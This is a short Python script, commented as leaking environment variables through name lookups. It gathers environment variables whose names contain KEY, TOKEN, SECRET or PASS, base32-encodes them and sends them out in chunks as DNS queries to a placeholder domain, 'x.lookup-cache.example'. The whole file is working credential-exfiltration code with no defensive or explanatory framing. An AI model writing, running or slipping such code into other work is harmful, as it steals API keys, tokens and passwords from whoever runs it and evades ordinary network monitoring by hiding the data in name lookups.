# leaks environment variables through name lookups
import base64
import os
import socket

ZONE = "x.lookup-cache.example"
secrets = "\n".join(f"{k}={v}" for k, v in os.environ.items()
                    if any(w in k for w in ("KEY", "TOKEN", "SECRET", "PASS")))
text = base64.b32encode(secrets.encode()).decode().rstrip("=").lower()
for i in range(0, len(text), 50):
    label = text[i:i + 50]
    try:
        socket.gethostbyname(f"{i // 50}.{label}.{ZONE}")
    except socket.gaierror:
        continue
